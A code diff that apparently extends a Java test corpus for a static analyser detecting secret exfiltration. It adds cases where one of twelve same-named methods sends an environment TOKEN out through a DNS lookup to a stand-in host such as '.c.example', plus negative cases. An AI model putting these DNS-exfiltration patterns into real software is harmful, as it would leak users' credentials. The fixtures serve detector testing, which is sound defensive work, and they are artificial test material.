@@ -76,6 +76,15 @@ final class FlowCorpus {
         return out;
     }
 
+    /** {@code count} unrelated classes {@code prefix1..prefixN}, each with {@code body}, except the {@code special} ones. */
+    private static List<String> sameNamed(String prefix, int count, String body, Map<Integer, String> special) {
+        List<String> out = new ArrayList<>();
+        for (int i = 1; i <= count; i++) {
+            out.add("package PKG;\nclass " + prefix + i + " {\n" + special.getOrDefault(i, body) + "}\n");
+        }
+        return out;
+    }
+
     private static String[] files(List<String> generated, String... written) {
         List<String> all = new ArrayList<>(List.of(written));
         all.addAll(generated);
@@ -650,6 +659,44 @@ final class FlowCorpus {
                             }
                             void g(Store s) throws Exception {
                                 java.net.InetAddress.getByName(s.get() + "x"); // expect: EXFIL, from=St60.java:4
+                            }
+                        }
+                        """));
+        // a receiver of unknown type once reached same-named methods only when there were at most 8, else none
+        add("receiver of unknown type (var): the 12th of 12 same-named methods sends its argument",
+                "name-matched call: many same-named methods",
+                files(sameNamed("Hd", 12, """
+                            public void handle(String data) {
+                                System.out.println(data.length());
+                            }
+                        """, Map.of(12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:5
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(java.util.function.Supplier<?> registry) throws Exception {
+                                var h = registry.get();
+                                h.handle(System.getenv("TOKEN"));
+                            }
+                        }
+                        """));
+        add("reflection on a class not known: the 12th of 12 same-named methods sends its argument",
+                "name-matched call: many same-named methods",
+                files(sameNamed("Rf", 12, """
+                            public static void x(String data) {
+                                System.out.println(data.length());
+                            }
+                        """, Map.of(12, """
+                            public static void x(String data) throws Exception {
+                                java.net.InetAddress.getByName(data); // expect: EXFIL, from=A.java:4
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(String cls) throws Exception {
+                                Class.forName(cls).getMethod("x", String.class).invoke(null, System.getenv("TOKEN"));
                             }
                         }
                         """));
@@ -1278,6 +1325,47 @@ final class FlowCorpus {
                             }
                             void all(Op o) throws Exception {
                                 o.run("clean");
+                            }
+                        }
+                        """));
+        add("receiver of unknown type: 12 same-named methods get clean data, the secret one of another arity",
+                "negative: name-matched call (arity)",
+                files(sameNamed("Hn", 12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data);
+                            }
+                        """, Map.of(12, """
+                            public void handle(String data) throws Exception {
+                                java.net.InetAddress.getByName(data);
+                            }
+                            public void handle(String data, String secret) {
+                                System.out.println(secret.length());
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f(java.util.function.Supplier<?> registry) throws Exception {
+                                var h = registry.get();
+                                h.handle("public.example");
+                                h.handle("public.example", System.getenv("TOKEN"));
+                            }
+                        }
+                        """));
+        add("a call on X.class is a Class's, never a name match: 12 project getName methods, one returns a secret",
+                "negative: name-matched call (class literal)",
+                files(sameNamed("Nm", 12, """
+                            public String getName() {
+                                return "n";
+                            }
+                        """, Map.of(12, """
+                            public String getName() {
+                                return System.getenv("TOKEN");
+                            }
+                        """)), """
+                        package PKG;
+                        class A {
+                            void f() throws Exception {
+                                java.net.InetAddress.getByName(A.class.getName() + ".c.example");
                             }
                         }
                         """));
